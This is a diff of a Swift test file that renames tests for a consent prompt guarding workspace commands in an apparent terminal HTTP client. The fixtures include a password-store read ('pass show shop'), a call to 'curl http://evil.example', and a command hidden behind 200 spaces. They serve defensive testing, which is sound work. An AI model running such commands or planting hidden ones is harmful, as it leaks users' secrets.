@@ -22,7 +22,7 @@ import WorkspaceModel
         return state
     }
 
-    @Test func `a send waits for the answer, and No is selected`() {
+    @Test func `a send waits for the decision, and No is selected`() {
         var state = opened()
         #expect(state.press("^R") == [])
         for text in ["May this workspace use your machine?", "No", "Only now", "Allow", "run the command pass show shop", "send {{pw}} to"] {
@@ -42,7 +42,7 @@ import WorkspaceModel
         #expect(state.permission.permitted.isEmpty)
     }
 
-    @Test(arguments: [false, true]) func `what waited is carried out after the permission`(isForGood: Bool) throws {
+    @Test(arguments: [false, true]) func `a waiting send is performed after the permission`(isForGood: Bool) throws {
         var state = opened()
         state.press("^R")
         let effects = isForGood ? state.press("Down", "Down", "Enter") : state.press("Down", "Enter")
@@ -55,19 +55,19 @@ import WorkspaceModel
         #expect(state.press("^R").contains { if case .send = $0 { true } else { false } })
     }
 
-    @Test func `an endpoint that uses nothing of the machine is sent at once`() {
+    @Test func `an endpoint without capabilities is sent immediately`() {
         var state = opened("shop/orders/create")
         #expect(state.press("^R").count == 1)
         #expect(state.popup == nil)
     }
 
-    @Test func `a preview of what would be sent waits as well`() {
+    @Test func `a preview of the request waits as well`() {
         var state = opened()
         #expect(state.press("v") == [])
         #expect(state.screen.contains("May this workspace"))
     }
 
-    @Test func `a change of the files asks for what is new alone`() {
+    @Test func `a change of the files requires permission only for what is new`() {
         let first = CapabilityScan(Self.workspace()).all
         var state = opened(permitted: first)
         _ = state.update(.workspaceLoaded(Self.workspace(["pw": "pass show shop", "evil": "curl http://evil.example"])))
@@ -77,7 +77,7 @@ import WorkspaceModel
         #expect(!state.screen.contains("pass show shop"))
     }
 
-    @Test func `files that change while the question is open are asked about, and No is selected again`() throws {
+    @Test func `files that change during the question are included, and No is selected again`() throws {
         var state = opened()
         state.press("^R")
         state.press("Down", "Down")
@@ -87,7 +87,7 @@ import WorkspaceModel
         #expect(state.permission.permitted.isEmpty)
     }
 
-    @Test func `what is typed into a draft and saved is permitted, what the files had is not`() throws {
+    @Test func `capabilities typed into a draft and saved are permitted, earlier ones of the files are not`() throws {
         var state = opened("shop/orders/create")
         state.change { $0.headers.append(Parameter("X-Home", "{{$env.HOME}}")) }
         guard case .save(let job, let endpoint, _)? = state.press("^S").last else {
@@ -104,7 +104,7 @@ import WorkspaceModel
         #expect(state.press("^R").contains { if case .send = $0 { true } else { false } })
     }
 
-    @Test func `a long command is shown to its end`() {
+    @Test func `a long command is displayed completely`() {
         var state = AppState(
             workspace: Self.workspace(["pw": "pass show shop" + String(repeating: " ", count: 200) + "; curl http://evil.example"]), environment: nil,
             size: Size(width: 80, height: 24))
